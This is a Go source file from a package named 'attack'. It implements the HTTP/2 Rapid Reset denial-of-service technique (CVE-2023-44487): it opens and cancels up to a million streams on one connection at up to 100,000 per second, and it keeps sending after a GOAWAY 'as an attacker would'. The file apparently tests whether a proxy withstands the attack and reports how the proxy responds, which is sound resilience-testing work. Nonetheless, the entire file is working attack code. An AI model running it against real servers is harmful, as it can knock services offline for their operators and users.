package attack

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// RapidResetOptions configures RapidReset.
type RapidResetOptions struct {
	Target
	// Rate is the number of streams opened and cancelled per second.
	// Default 100; at most 100000.
	Rate int
	// Duration is how long to keep sending. Default 5s; at most 10m.
	Duration time.Duration
	// Streams caps the streams sent. Default and ceiling:
	// Rate × Duration, at most 1,000,000 (the connection's stream IDs
	// run out at about 1,073,000,000).
	Streams int
	// ResetAfter is the time between a stream's HEADERS and its
	// RST_STREAM. Zero: both leave in the same write, and a proxy that
	// reads them together never starts the request; a few milliseconds
	// let it start (and open a backend connection) before the reset.
	// At most 10s.
	ResetAfter time.Duration
}

// RapidResetResult is what RapidReset saw.
type RapidResetResult struct {
	// Sent is the number of streams opened and cancelled (HEADERS then
	// RST_STREAM(CANCEL)); SentBeforeGoAway those sent before a GOAWAY
	// arrived (all of them when none did).
	Sent, SentBeforeGoAway int
	// Answered counts response HEADERS received, PeerResets the
	// RST_STREAM frames the proxy sent.
	Answered, PeerResets int
	// GoAway is true when a GOAWAY arrived, GoAwayAfter from the start,
	// with GoAwayCode and GoAwayLastStream (the last stream ID the proxy
	// says it processed).
	GoAway           bool
	GoAwayAfter      time.Duration
	GoAwayCode       http2.ErrCode
	GoAwayLastStream uint32
	// Closed is true when the proxy closed the connection, ClosedAfter
	// from the start.
	Closed      bool
	ClosedAfter time.Duration
	// Elapsed is the time spent sending.
	Elapsed time.Duration
}

func (r *RapidResetResult) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "rapidreset: %d streams sent in %v (%.0f/s), %d answered, %d reset by the proxy",
		r.Sent, r.Elapsed.Round(time.Millisecond), float64(r.Sent)/max(r.Elapsed.Seconds(), 1e-3), r.Answered, r.PeerResets)
	if r.GoAway {
		fmt.Fprintf(&b, "; GOAWAY %v after %v (last stream %d, %d streams sent before it)",
			r.GoAwayCode, r.GoAwayAfter.Round(time.Millisecond), r.GoAwayLastStream, r.SentBeforeGoAway)
	} else {
		b.WriteString("; no GOAWAY")
	}
	if r.Closed {
		fmt.Fprintf(&b, "; connection closed by the proxy after %v", r.ClosedAfter.Round(time.Millisecond))
	} else {
		b.WriteString("; connection still open")
	}
	return b.String()
}

// RapidReset opens one HTTP/2 connection and, at o.Rate per second for
// o.Duration, opens a GET stream and cancels it: HEADERS then
// RST_STREAM(CANCEL), in the same write or o.ResetAfter later
// (CVE-2023-44487). It goes on after a GOAWAY, as an attacker would,
// until the proxy closes the connection. A sound proxy does not open a
// backend connection per cancelled stream and, past a budget of resets,
// sends GOAWAY (ENHANCE_YOUR_CALM or PROTOCOL_ERROR) and closes.
func RapidReset(ctx context.Context, o RapidResetOptions) (*RapidResetResult, error) {
	t, err := o.Target.withDefaults()
	if err != nil {
		return nil, err
	}
	rate := bound(o.Rate, 100, 100000)
	dur := bound(o.Duration, 5*time.Second, maxHold)
	ceiling := min(int(float64(rate)*dur.Seconds())+1, 1_000_000)
	limit := bound(o.Streams, ceiling, ceiling)
	h, err := dialH2(ctx, t, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	if err != nil {
		return nil, err
	}
	defer h.c.Close()
	defer closeOnDone(ctx, h.c)()
	res := &RapidResetResult{}
	var (
		mu      sync.Mutex // guards res while the reader runs
		sent    atomic.Int64
		closing atomic.Bool
		wg      sync.WaitGroup
	)
	start := time.Now()
	closed := make(chan struct{})
	wg.Go(func() {
		defer close(closed)
		for {
			f, err := h.fr.ReadFrame()
			if err != nil {
				if !closing.Load() && ctx.Err() == nil {
					mu.Lock()
					res.Closed, res.ClosedAfter = true, time.Since(start)
					mu.Unlock()
				}
				return
			}
			mu.Lock()
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				res.Answered++
			case *http2.RSTStreamFrame:
				res.PeerResets++
			case *http2.GoAwayFrame:
				if !res.GoAway {
					res.GoAway, res.GoAwayAfter = true, time.Since(start)
					res.GoAwayCode, res.GoAwayLastStream = f.ErrCode, f.LastStreamID
					res.SentBeforeGoAway = int(sent.Load())
				}
			}
			mu.Unlock()
			h.answer(f, true)
		}
	})
	resetAfter := min(max(o.ResetAfter, 0), 10*time.Second)
	sendPaced(ctx, h, rate, dur, limit, resetAfter, &sent, closed)
	res.Elapsed = time.Since(start)
	// Allow a moment for a GOAWAY or a close that is on its way.
	select {
	case <-closed:
	case <-time.After(min(time.Second, t.Timeout)):
	}
	closing.Store(true)
	h.c.Close()
	wg.Wait()
	res.Sent = int(sent.Load())
	if !res.GoAway {
		res.SentBeforeGoAway = res.Sent
	}
	return res, ctx.Err()
}

// sendPaced opens and cancels streams on h at rate per second, for dur
// and at most limit, until the connection closes or ctx ends. Each reset
// follows its HEADERS by resetAfter.
func sendPaced(ctx context.Context, h *h2Client, rate int, dur time.Duration, limit int, resetAfter time.Duration,
	sent *atomic.Int64, closed <-chan struct{}) {
	var timers sync.WaitGroup
	defer timers.Wait()
	start := time.Now()
	tick := time.NewTicker(max(time.Second/time.Duration(rate), time.Millisecond))
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-closed:
			return
		case <-tick.C:
		}
		elapsed := time.Since(start)
		if elapsed >= dur {
			return
		}
		due := min(int(float64(rate)*elapsed.Seconds())+1, limit) - int(sent.Load())
		for range due {
			id, err := h.open(resetAfter == 0)
			if err != nil {
				return
			}
			sent.Add(1)
			if resetAfter > 0 {
				timers.Add(1)
				time.AfterFunc(resetAfter, func() { defer timers.Done(); h.cancel(id) })
			}
		}
		if err := h.flush(); err != nil {
			return
		}
		if int(sent.Load()) >= limit {
			return
		}
	}
}
